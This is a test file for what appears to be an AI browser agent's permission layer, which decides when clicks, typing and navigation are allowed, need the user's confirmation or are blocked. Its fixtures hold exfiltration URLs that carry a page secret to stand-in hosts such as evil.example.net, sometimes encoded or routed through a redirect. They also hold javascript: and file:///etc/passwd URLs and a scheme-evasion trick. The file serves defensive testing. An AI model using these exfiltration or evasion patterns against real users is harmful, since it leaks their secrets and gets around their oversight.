import { describe, expect, it } from 'vitest';
import { blockedUrlReason, type CallContext, decide, isHighRiskName, type Mode, type PolicyContext } from './decide';
import { sensitiveSite } from './sites';

/** A question as the tests compare it: its English reason; the words the card shows are built from the same message. */
const withoutWords = (decision: object) => Object.fromEntries(Object.entries(decision).filter(([key]) => key !== 'words'));

const shop = 'https://shop.example.com/cart';
const bank = 'https://online.chase.com/accounts';

/** member × site × mode × element -> verdict */
const CASES: Array<[string, CallContext, Mode, 'allow' | 'ask' | 'block']> = [
  ['reading is always allowed, even on a bank', { member: 'read_page', input: {}, tabUrl: bank }, 'ask-every', 'allow'],
  ['a screenshot is allowed', { member: 'screenshot', input: {}, tabUrl: shop }, 'act', 'allow'],
  ['an ordinary click on an ordinary site is allowed', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'link', name: 'Next page' } }, 'act', 'allow'],
  ['an ordinary click asks when every action asks', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'link', name: 'Next page' } }, 'ask-every', 'ask'],
  ['"Place order" asks in every mode', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'button', name: 'Place order' } }, 'act', 'ask'],
  ['"Pay now" asks', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'button', name: 'Pay now' } }, 'act', 'ask'],
  ['"Löschen" asks', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'button', name: 'Löschen' } }, 'act', 'ask'],
  ['"Deleted items" (a folder) does not ask', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'link', name: 'Deleted items' } }, 'act', 'allow'],
  ['any change on a bank asks', { member: 'form_input', input: {}, tabUrl: bank, target: { role: 'textbox', name: 'Memo' } }, 'act', 'ask'],
  ['a password field asks', { member: 'form_input', input: {}, tabUrl: shop, target: { role: 'textbox', name: 'Password', inputType: 'password' } }, 'act', 'ask'],
  ['javascript_exec always asks', { member: 'javascript_exec', input: { text: 'document.cookie' }, tabUrl: shop }, 'act', 'ask'],
  ['file_upload always asks', { member: 'file_upload', input: {}, tabUrl: shop }, 'act', 'ask'],
  ['navigating to a bank asks', { member: 'navigate', input: { url: 'chase.com' }, tabUrl: shop }, 'act', 'ask'],
  ['javascript: URLs are blocked', { member: 'navigate', input: { url: 'javascript:alert(1)' }, tabUrl: shop }, 'act', 'block'],
  ['data: URLs are blocked', { member: 'navigate', input: { url: 'data:text/html,<b>x</b>' }, tabUrl: shop }, 'act', 'block'],
  ['chrome:// is blocked', { member: 'navigate', input: { url: 'chrome://settings' }, tabUrl: shop }, 'ask-every', 'block'],
  ['an ordinary navigation is allowed', { member: 'navigate', input: { url: 'https://docs.example.org' }, tabUrl: shop }, 'act', 'allow'],
  ['keys pressed into a password field ask', { member: 'key', input: { text: 'a' }, tabUrl: shop, target: { role: 'textbox', name: 'Password', inputType: 'password' } }, 'act', 'ask'],
  ['typing into a focused password field asks', { member: 'type', input: { text: 'hunter2' }, tabUrl: shop, target: { role: 'textbox', name: 'Password', inputType: 'password' } }, 'act', 'ask'],
  ['a javascript: URL with a tab inside the scheme is blocked', { member: 'navigate', input: { url: 'java\tscript:alert(1)' }, tabUrl: shop }, 'act', 'block'],
  ['page text in a URL to another site asks', { member: 'navigate', input: { url: 'https://collect.example.net/c?data=SK-7731-QQ' }, tabUrl: shop, read: { pages: [{ url: shop, text: 'Your key: SK-7731-QQ' }], userText: 'Summarise' } }, 'act', 'ask'],
  ['page text base64-encoded in a URL to another site asks', { member: 'navigate', input: { url: `https://collect.example.net/c#${btoa('SK-7731-QQ')}` }, tabUrl: shop, read: { pages: [{ url: shop, text: 'Your key: SK-7731-QQ' }], userText: 'Summarise' } }, 'act', 'ask'],
  ['a code from the page in the path of a URL to another site asks', { member: 'navigate', input: { url: 'https://collect.example.net/c/SK-7731-QQ' }, tabUrl: shop, read: { pages: [{ url: shop, text: 'Your key: SK-7731-QQ' }], userText: 'Summarise' } }, 'act', 'ask'],
  ['a code from the page as a host name asks', { member: 'navigate', input: { url: 'https://sk-7731-qq.collect.example.net/' }, tabUrl: shop, read: { pages: [{ url: shop, text: 'Your key: SK-7731-QQ' }], userText: 'Summarise' } }, 'act', 'ask'],
  ['an ordinary word from the page in a path does not ask', { member: 'navigate', input: { url: 'https://en.example.org/wiki/Notebook' }, tabUrl: shop, read: { pages: [{ url: shop, text: 'A Notebook, 12 EUR' }], userText: 'Look it up' } }, 'act', 'allow'],
  ['a coordinate click inside a frame of another process asks', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'frame', name: 'https://pay.example.net', opaqueFrame: true } }, 'act', 'ask'],
  ['Enter on a focused "Pay now" asks', { member: 'key', input: { text: 'Return' }, tabUrl: shop, target: { role: 'button', name: 'Pay now' } }, 'act', 'ask'],
  ['Space on a focused "Pay now" asks', { member: 'key', input: { text: 'space' }, tabUrl: shop, target: { role: 'button', name: 'Pay now' } }, 'act', 'ask'],
  ['Tab away from "Pay now" does not ask', { member: 'key', input: { text: 'Tab' }, tabUrl: shop, target: { role: 'button', name: 'Pay now' } }, 'act', 'allow'],
  ['Enter in a field of a payment form asks', { member: 'key', input: { text: 'Enter' }, tabUrl: shop, target: { role: 'textbox', name: 'Card number', formAction: 'https://shop.example.com/checkout/pay' } }, 'act', 'ask'],
  ['a plainly named button of a payment form asks', { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'button', name: 'Continue', formAction: 'https://shop.example.com/checkout/pay' } }, 'act', 'ask'],
  ['a code read on one site, sent from a tab of another site to that other site, asks', { member: 'navigate', input: { url: 'https://evil.example.net/?d=SK-7731-QQ' }, tabUrl: 'https://evil.example.net/start', read: { pages: [{ url: bank, text: 'Your key: SK-7731-QQ' }, { url: 'https://evil.example.net/start', text: 'Welcome' }], userText: '' } }, 'act', 'ask'],
  ['a code read on a page of unknown address counts as read elsewhere', { member: 'navigate', input: { url: 'https://evil.example.net/?d=SK-7731-QQ' }, tabUrl: shop, read: { pages: [{ text: 'Your key: SK-7731-QQ' }], userText: '' } }, 'act', 'ask'],
  ['page data through the source site\'s own redirect to another site asks', { member: 'navigate', input: { url: `https://shop.example.com/redirect?to=${encodeURIComponent('https://evil.example.net/c?d=SK-7731-QQ')}` }, tabUrl: shop, read: { pages: [{ url: shop, text: 'Your key: SK-7731-QQ' }], userText: '' } }, 'act', 'ask'],
  ['the same, without the redirect, back to the site it came from, is allowed', { member: 'navigate', input: { url: 'https://shop.example.com/search?q=SK-7731-QQ' }, tabUrl: shop, read: { pages: [{ url: shop, text: 'Your key: SK-7731-QQ' }], userText: '' } }, 'act', 'allow'],
  ['page text in a URL to the same site is allowed', { member: 'navigate', input: { url: 'https://shop.example.com/search?q=SK-7731-QQ' }, tabUrl: shop, read: { pages: [{ url: shop, text: 'Your key: SK-7731-QQ' }], userText: 'Summarise' } }, 'act', 'allow'],
  ['the user\'s own words in a URL to another site are allowed', { member: 'navigate', input: { url: 'https://search.example.net/?q=blue+notebook' }, tabUrl: shop, read: { pages: [{ url: shop, text: 'A blue notebook, 12 EUR' }], userText: 'Find a blue notebook elsewhere' } }, 'act', 'allow'],
  ['a link the page itself shows is followed without asking', { member: 'navigate', input: { url: 'https://partner.example.net/offer?id=SK-7731-QQ' }, tabUrl: shop, read: { pages: [{ url: shop, text: 'link "Offer" https://partner.example.net/offer?id=SK-7731-QQ' }], userText: 'Open the offer' } }, 'act', 'allow'],
];

describe('decide', () => {
  // 'act' mode on a site the user trusts: only sensitive sites and risky actions ask.
  for (const [name, call, mode, verdict] of CASES) {
    it(name, () => expect(decide(call, { mode, allowedSites: mode === 'act' ? ['shop.example.com'] : [] }).verdict).toBe(verdict));
  }

  it('gives the user a reason for every question', () => {
    const decision = decide({ member: 'left_click', input: {}, tabUrl: shop, target: { role: 'button', name: 'Buy now' } }, { mode: 'act', allowedSites: ['shop.example.com'] });
    expect(withoutWords(decision)).toEqual({ verdict: 'ask', reason: 'It would press "Buy now", which can buy, send, publish or delete something.' });
  });
});

it('matches sensitive sites by domain and subdomain, not by lookalikes', () => {
  expect(sensitiveSite('https://online.chase.com/x')).toEqual({ category: { key: 'category_banking', args: [] }, domain: 'chase.com' });
  expect(sensitiveSite('https://chase.com.evil.example/x')).toBeUndefined();
  expect(sensitiveSite('https://notchase.com/')).toBeUndefined();
  expect(sensitiveSite('https://mail.google.com/mail/u/0')).toMatchObject({ category: { key: 'category_messaging' } });
  expect(sensitiveSite('https://www.google.com/')).toBeUndefined();
});

it('reads high-risk names as words', () => {
  expect(isHighRiskName('Send message')).toBe(true);
  expect(isHighRiskName('Sender')).toBe(false);
  expect(isHighRiskName('Check out')).toBe(true);
  expect(isHighRiskName('Orders history')).toBe(false);
});

it('treats the sites the user added as sensitive too', () => {
  const call: CallContext = { member: 'left_click', input: {}, tabUrl: 'https://intranet.example.com/hr', target: { role: 'link', name: 'Open' } };
  expect(decide(call, { mode: 'act', allowedSites: ['example.com'] }).verdict).toBe('allow');
  expect(withoutWords(decide(call, { mode: 'act', allowedSites: ['example.com'], extraSensitive: { category_by_you: ['intranet.example.com'] } }))).toEqual({
    verdict: 'ask',
    reason: 'intranet.example.com is a sensitive site (added by you): every change there needs your yes.',
  });
});

it('"always allow on this site" lets ordinary actions there run, but never risky ones', () => {
  const ordinary: CallContext = { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'link', name: 'Next page' } };
  expect(decide(ordinary, { mode: 'ask-every' })).toMatchObject({ verdict: 'ask', alwaysAllowable: true });
  expect(decide(ordinary, { mode: 'ask-every', allowedSites: ['shop.example.com'] }).verdict).toBe('allow');
  const risky: CallContext = { ...ordinary, target: { role: 'button', name: 'Pay now' } };
  expect(decide(risky, { mode: 'ask-every', allowedSites: ['shop.example.com'] })).toMatchObject({ verdict: 'ask' });
  expect(decide(risky, { mode: 'ask-every', allowedSites: ['shop.example.com'] })).not.toHaveProperty('alwaysAllowable');
  expect(decide({ ...ordinary, tabUrl: bank }, { mode: 'ask-every', allowedSites: ['online.chase.com'] }).verdict).toBe('ask');
});

describe('"Act without asking" on the sites the user trusts', () => {
  const click: CallContext = { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'link', name: 'Next page' } };
  it('acts on a trusted site and its subdomains', () => {
    expect(decide(click, { mode: 'act', allowedSites: ['example.com'] }).verdict).toBe('allow');
  });
  it('asks elsewhere, and the user may answer "always"', () => {
    expect(decide(click, { mode: 'act', allowedSites: ['other.example.org'] })).toMatchObject({ verdict: 'ask', alwaysAllowable: true });
  });
  it('opens any ordinary site without asking: acting there is what asks', () => {
    expect(decide({ member: 'navigate', input: { url: 'https://news.example.org' }, tabUrl: shop }, { mode: 'act' }).verdict).toBe('allow');
  });
});

describe('"Ask before acting": a plan first, then its sites', () => {
  const click: CallContext = { member: 'left_click', input: {}, tabUrl: shop, target: { role: 'link', name: 'Next page' } };
  const before: PolicyContext = { mode: 'plan' };
  const approved: PolicyContext = { mode: 'plan', planSites: ['shop.example.com'] };
  it('reads freely but acts only after a plan is approved', () => {
    expect(decide({ member: 'read_page', input: {}, tabUrl: shop }, before).verdict).toBe('allow');
    expect(decide(click, before)).toMatchObject({ verdict: 'block', reason: expect.stringContaining('propose_plan') });
    expect(decide({ member: 'navigate', input: { url: 'shop.example.com' }, tabUrl: undefined }, before).verdict).toBe('block');
  });
  it('acts without asking on the plan\'s sites once approved', () => {
    expect(decide(click, approved).verdict).toBe('allow');
    expect(decide({ member: 'navigate', input: { url: 'https://shop.example.com/orders' }, tabUrl: shop }, approved).verdict).toBe('allow');
  });
  it('asks before leaving the approved sites, and never offers "always" for it', () => {
    const leave = decide({ member: 'navigate', input: { url: 'https://collect.evil.example/?q=secret' }, tabUrl: shop }, approved);
    expect(withoutWords(leave)).toEqual({ verdict: 'ask', reason: 'It would leave the approved sites: collect.evil.example is not in the plan (shop.example.com).' });
  });
  it('asks for an action on a page outside the plan (a redirect took it there)', () => {
    expect(decide({ ...click, tabUrl: 'https://elsewhere.example.org/' }, approved)).toMatchObject({ verdict: 'ask', alwaysAllowable: true });
  });
  it('still asks for risky actions and sensitive sites inside the plan', () => {
    expect(decide({ ...click, target: { role: 'button', name: 'Place order' } }, approved).verdict).toBe('ask');
    expect(decide({ ...click, tabUrl: bank }, { mode: 'plan', planSites: ['chase.com'] }).verdict).toBe('ask');
  });
});

describe('an administrator\'s lists', () => {
  it('blocks opening or acting on a blocked domain, whatever the mode', () => {
    const policy: PolicyContext = { mode: 'act', allowedSites: ['example.com'], blockedDomains: ['evil.example'] };
    expect(decide({ member: 'navigate', input: { url: 'https://www.evil.example/x' }, tabUrl: shop }, policy)).toEqual({ verdict: 'block', reason: 'www.evil.example is blocked by your administrator.' });
    expect(decide({ member: 'left_click', input: {}, tabUrl: 'https://evil.example/', target: { role: 'link', name: 'x' } }, policy).verdict).toBe('block');
    expect(decide({ member: 'read_page', input: {}, tabUrl: 'https://evil.example/' }, policy).verdict).toBe('allow');
  });
  it('keeps Steward to the allowed domains when an administrator lists them', () => {
    expect(blockedUrlReason('https://docs.example.org/', { onlyDomains: ['example.com'] })).toMatch(/only on example\.com/);
    expect(blockedUrlReason('https://a.example.com/', { onlyDomains: ['example.com'] })).toBeUndefined();
  });
  it('blocks every scheme that runs code or reads local files', () => {
    for (const url of ['javascript:alert(1)', ' JavaScript:void(0)', 'data:text/html,x', 'blob:https://a.example/1', 'file:///etc/passwd', 'chrome://settings', 'view-source:https://a.example', 'filesystem:https://a.example/x']) {
      expect(blockedUrlReason(url), url).toBeDefined();
    }
    expect(blockedUrlReason('about:blank')).toBeUndefined();
  });
});

it('data leaving in a URL is never "always allowed", and the reason names what and where', () => {
  const call: CallContext = { member: 'navigate', input: { url: 'collect.example.net/c?d=SK-7731-QQ' }, tabUrl: shop, read: { pages: [{ url: shop, text: 'Your key: SK-7731-QQ' }], userText: '' } };
  expect(withoutWords(decide(call, { mode: 'ask-every', allowedSites: ['shop.example.com', 'collect.example.net'] }))).toEqual({
    verdict: 'ask',
    reason: 'It would send text read from a page ("SK-7731-QQ") to collect.example.net, another site.',
  });
});

it('reads a name without a dot wide where it warns or blocks, and exactly where it permits', () => {
  expect(sensitiveSite('https://mabanque.bnpparibas/')).toMatchObject({ domain: 'bnpparibas' });
  const click: CallContext = { member: 'left_click', input: {}, tabUrl: 'http://localhost.attacker.example/', target: { role: 'link', name: 'Next page' } };
  expect(decide(click, { mode: 'act', allowedSites: ['localhost'] })).toMatchObject({ verdict: 'ask' });
  expect(decide({ ...click, tabUrl: 'http://localhost:8080/' }, { mode: 'act', allowedSites: ['localhost'] }).verdict).toBe('allow');
  expect(decide({ member: 'navigate', input: { url: 'http://localhost.attacker.example/' }, tabUrl: undefined }, { mode: 'act', blockedDomains: ['localhost'] }).verdict).toBe('block');
});
